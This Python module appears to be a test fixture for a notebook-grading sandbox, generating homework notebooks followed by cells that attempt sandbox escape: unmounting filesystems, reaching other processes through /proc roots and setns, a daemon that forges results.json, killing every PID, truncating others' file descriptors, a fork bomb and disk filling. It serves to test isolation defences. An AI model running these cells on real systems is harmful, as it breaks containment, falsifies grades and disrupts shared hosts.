"""Notebooks of a student who has read the grader's source and attacks the sandbox.

Each is the homework (so the grade it would deserve is known: 100) followed by cells that
try to cross the boundary and print what they achieved as ``LABEL value`` lines, which the
tests read back from the executed notebook.
"""

from __future__ import annotations

from tests.notebooks import homework, report

DAEMON_MARK = "grader_daemon_mark_4242"
HOST_TMP_MARK = "grader-disk-attack-marker"


def _in_subprocess(code: str) -> str:
    """A cell running ``code`` in a fresh interpreter started by the kernel: outside the
    probe's audit hook (which blocks ctypes in the kernel itself), as an attacker would."""
    return (
        "import subprocess, sys\n"
        f"attack = subprocess.run([sys.executable, '-c', {code!r}], capture_output=True, "
        "text=True)\nprint(attack.stdout.strip() or attack.stderr.strip()[-300:])"
    )


def umount(submissions: str) -> list[str]:
    return homework() + [
        _in_subprocess(
            """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
undone = [t for t in ("/", "/tmp", "/proc", "/usr", "/dev", os.getcwd())
          if libc.umount2(t.encode(), 2) == 0]
print("UMOUNTED", len(undone), undone)"""
        ),
        # a nested user namespace holds every capability, but over locked copies only
        _in_subprocess(
            """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) != 0:
    print("NESTED_UMOUNTED 0 (no namespace)")
else:
    done = [t for t in ("/tmp", "/usr", "/proc") if libc.umount2(t.encode(), 2) == 0]
    print("NESTED_UMOUNTED", len(done), sorted(os.listdir("/")))"""
        ),
        "import os\n"
        + report("READ_OTHER", f"open(os.path.join({submissions!r}, '90_honest.ipynb')).read()"),
    ]


def proc_root(out: str, submissions: str) -> list[str]:
    return homework() + [
        f"""import os
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("PIDS", len(pids), pids)
hits = 0
for pid in set(pids) | set(range(1, 4096)):
    for path in (f"/proc/{{pid}}/root{out}/results.json",
                 f"/proc/{{pid}}/root{submissions}/90_honest.ipynb",
                 f"/proc/{{pid}}/cwd/results.json"):
        try:
            open(path, "rb").read(1)
            hits += 1
        except OSError:
            pass
print("PROC_ROOT_HITS", hits)""",
        report("WRITE_VIA_PROC_ROOT", f"open('/proc/1/root{out}/pwned.txt', 'w').write('x')"),
    ]


def setns(port: int) -> list[str]:
    return homework() + [
        _in_subprocess(
            f"""import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
flags = {{"net": 0x40000000, "mnt": 0x00020000, "pid": 0x20000000, "user": 0x10000000,
         "ipc": 0x08000000, "uts": 0x04000000}}
mine = {{ns: os.readlink(f"/proc/self/ns/{{ns}}") for ns in flags}}
entered = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for ns, flag in flags.items():
        try:
            fd = os.open(f"/proc/{{pid}}/ns/{{ns}}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, flag) == 0 and os.readlink(f"/proc/{{pid}}/ns/{{ns}}") != mine[ns]:
            entered.append((pid, ns))
        os.close(fd)
print("SETNS_ENTERED", len(entered), entered)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    print("LOOPBACK_AFTER_SETNS: OK")
except OSError as error:
    print("LOOPBACK_AFTER_SETNS: BLOCKED", error)"""
        ),
    ]


def pool_socket() -> list[str]:
    return homework() + [
        """import glob, os, socket
found = glob.glob("/tmp/grader-pool-*") + glob.glob("/tmp/**/zygote.sock", recursive=True)
print("POOL_PATHS", found)
names = []
for line in open("/proc/net/unix").read().splitlines()[1:]:
    fields = line.split()
    if len(fields) >= 8:
        names.append(fields[-1])
connected = 0
for name in names:
    address = "\\0" + name[1:] if name.startswith("@") else name
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(address)
            s.sendall(b'{"op": "status", "pid": 1}\\n')
            if b"returncode" in s.recv(100):  # the pool's parent answered (zmq: greeting)
                connected += 1
    except OSError:
        pass
print("POOL_ANSWERED", connected)""",
    ]


def daemon(out: str) -> list[str]:
    """A double fork and setsid: a process that would outlive the submission and rewrite
    the results (it carries DAEMON_MARK in its command line, so the test can look for it)."""
    code = f"""# {DAEMON_MARK}
import json, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
forged = json.dumps({{"submissions": [], "forged": True}})
for _ in range(600):
    for path in ({out!r} + "/results.json", {out!r} + "/submissions/50_daemon.ipynb/result.json"):
        try:
            open(path, "w").write(forged)
        except OSError:
            pass
    time.sleep(0.1)
"""
    return homework() + [
        f"import subprocess, sys, time\nsubprocess.run([sys.executable, '-c', {code!r}])\n"
        "time.sleep(0.5)\nprint('DAEMON_STARTED')"
    ]


def killer() -> list[str]:
    return homework() + [
        """import os, signal
killed = []
own = {int(t) for t in os.listdir("/proc/self/task")}  # its own threads: only itself to hurt
for pid in range(1, 70000):
    if pid not in own:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except OSError:
            pass
print("KILLED", killed)"""
    ]


def other_fds() -> list[str]:
    return homework() + [
        """import os
opened = 0
def parent(pid):
    return int(open(f"/proc/{pid}/status").read().split("\\nPPid:\\t")[1].split()[0])
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        if parent(pid) == os.getpid():
            continue  # its own children: nobody else's
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            flags = os.O_WRONLY | os.O_TRUNC | os.O_NONBLOCK
            os.close(os.open(f"/proc/{pid}/fd/{name}", flags))
            opened += 1
        except OSError:
            pass
print("OTHER_FDS_OPENED", opened)"""
    ]


def fork_bomb() -> list[str]:
    return homework() + [
        """import os, time
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
finally:
    print("FORKED", len(children))"""
    ]


def fill_disk() -> list[str]:
    return homework() + [
        f"""open("/tmp/{HOST_TMP_MARK}", "w").write("x")
chunk = b"x" * (1 << 20)
written = 0
try:
    with open("filler.bin", "wb") as stream:
        while True:
            stream.write(chunk)
            written += 1
finally:
    print("WROTE_MIB", written)"""
    ]
